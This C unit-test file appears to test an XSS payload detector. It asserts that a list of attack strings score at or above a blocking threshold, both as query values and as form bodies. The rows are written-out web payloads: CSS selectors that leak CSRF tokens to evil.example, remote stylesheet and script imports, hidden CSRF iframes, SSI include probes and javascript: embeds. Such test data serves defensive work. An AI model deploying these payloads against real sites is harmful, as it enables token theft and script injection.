/* test_payload_rtx7.c - issue 20, helper x (session 28): XSS rows pinned
 * at the kill line (60, deploy/rules.yaml) by this session's fixes,
 * failing first on main 8e011e8. Each value is judged as a query
 * parameter value and as a form body "a=1&q=<percent-encoded value>": an
 * attack must draw an XSS finding at or above 60 in both. The benign
 * rows beside these rules (CDN sheets, includes of a page's parts, data
 * blocks, embeds' styles) are in test_payload_kill.c. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#define KILL 60

/* the best XSS score for v in context ctx (0 value, 1 form body) */
static int xss_best(const char *v, int ctx)
{
	static char body[8192];
	static const char hex[] = "0123456789ABCDEF";
	struct payload_match m[PAYLOAD__COUNT];
	size_t w = 0;
	int k, best = 0;

	if (ctx == 0) {
		k = payload_scan(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	} else {
		w = (size_t)snprintf(body, sizeof(body), "a=1&q=");
		for (const unsigned char *p = (const unsigned char *)v; *p && w + 4 < sizeof(body); p++) {
			if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') ||
			    *p == '-' || *p == '_' || *p == '.') {
				body[w++] = (char)*p;
			} else {
				body[w++] = '%';
				body[w++] = hex[*p >> 4];
				body[w++] = hex[*p & 15];
			}
		}
		k = payload_scan_query(body, w, PAYLOAD_WHERE_BODY, m, PAYLOAD__COUNT);
	}
	for (int i = 0; i < k; i++)
		if (m[i].kind == PAYLOAD_XSS && m[i].score > best)
			best = m[i].score;
	return best;
}

static void kill_run(const char *name, const char *const *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++)
		for (int ctx = 0; ctx < 2; ctx++) {
			int s = xss_best(t[i], ctx);
			if (s < KILL) {
				bad++;
				fprintf(stderr, "  FAIL %s (%s): xss %d %s\n", name, ctx ? "body" : "value", s, t[i]);
			}
		}
	assert_int_equal(bad, 0);
}

/* a style sheet of any host but a published library's release or a font
 * service: the sheet reads tokens out of the page by attribute selectors
 * (CSS exfiltration), linked or imported; and such a selector written
 * inline with the URL it fetches on a match */
static void test_xss_foreign_sheet(void **st)
{
	static const char *const t[] = {
		"<link rel=stylesheet href=https://evil.example/x.css>",
		"<link rel=\"stylesheet\" href=\"https://attacker.example/exfil.css\">",
		"<link href='https://a.example/leak.css' rel='stylesheet'>",
		"<style>@import 'https://evil.example/x.css';</style>",
		"<style>@import url(https://evil.example/leak.css)</style>",
		"<style>input[name=csrf][value^=a]{background:url(https://evil.example/?a)}</style>",
		"<style>input[value$=\"z\"]{background-image:url(//evil.example/z)}</style>",
		"<style>input[value *= \"9\"] ~ *{list-style:url(/log?9)}</style>",
	};

	(void)st;
	kill_run("foreign-sheet", t, sizeof(t) / sizeof(t[0]));
}

/* server-side includes of a page that is none of a page's parts (one
 * the visitor may not read; the SSI probe's first step) */
static void test_xss_ssi_probe(void **st)
{
	static const char *const t[] = {
		"<!--#include virtual=\"/admin/index.html\" -->",
		"<!--#include virtual=\"/private/report.htm\" -->",
		"<!--#include file=\"secret.html\" -->",
	};

	(void)st;
	kill_run("ssi-probe", t, sizeof(t) / sizeof(t[0]));
}

/* a dialog given a capitalised name: a constructor or namespace every
 * page binds (the dialog opens), not a program's local */
static void test_xss_dialog_global_ctor(void **st)
{
	static const char *const t[] = {
		"alert(Text)",
		"alert(Error)",
		"alert(JSON)",
		"prompt(Response)",
		"alert.call(null, Text)",
	};

	(void)st;
	kill_run("dialog-global-ctor", t, sizeof(t) / sizeof(t[0]));
}

/* an attacker's frame declared as an embed but kept out of sight by its
 * style: its box shrunk, or moved off the page */
static void test_xss_frame_style_hidden(void **st)
{
	static const char *const t[] = {
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"width:0;height:0\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 "
		"style=\"position:absolute;left:-9999px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"max-height: 1px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 "
		"style=\"position:fixed; top: -1000px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"border:0;width:.5px\"></iframe>",
		"<iframe src=\"https://evil.example/csrf\" width=600 height=400 style=\"transform: scale(0)\"></iframe>",
	};

	(void)st;
	kill_run("frame-style-hidden", t, sizeof(t) / sizeof(t[0]));
}

/* scripts that run beside or instead of a JSON data block */
static void test_xss_script_not_data(void **st)
{
	static const char *const t[] = {
		"<script type=\"application/ld+json\">{}</script><script>alert(1)</script>",
		"<script type=\"text/javascript\">alert(1)</script>",
		"<script type=\"module\">import('//evil.example/x.js')</script>",
		"<script type=\"json\">alert(1)</script>",
		"<script type=\"application/json;alert\">alert(1)</script>",
		"<script type>alert(1)</script>",
	};

	(void)st;
	kill_run("script-not-data", t, sizeof(t) / sizeof(t[0]));
}

/* embedding elements a PDF embed's exemption must not cover: another
 * type, a plugin's class or codebase, a script's access, a source that
 * is no web address or not a .pdf (pass on main: they guard it) */
static void test_xss_embed_not_pdf(void **st)
{
	static const char *const t[] = {
		"<object data=\"https://evil.example/x.pdf\" type=\"text/html\"></object>",
		"<object data=\"/files/a.pdf\" classid=\"clsid:1\"></object>",
		"<embed src=\"/x.pdf\" allowscriptaccess=always>",
		"<object data=\"javascript:alert(1)//.pdf\"></object>",
		"<object data=data:text/html,x.pdf></object>",
		"<embed src=\"/uploads/x.pdf.html\">",
	};

	(void)st;
	kill_run("embed-not-pdf", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xss_foreign_sheet),
		cmocka_unit_test(test_xss_ssi_probe),
		cmocka_unit_test(test_xss_dialog_global_ctor),
		cmocka_unit_test(test_xss_frame_style_hidden),
		cmocka_unit_test(test_xss_script_not_data),
		cmocka_unit_test(test_xss_embed_not_pdf),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
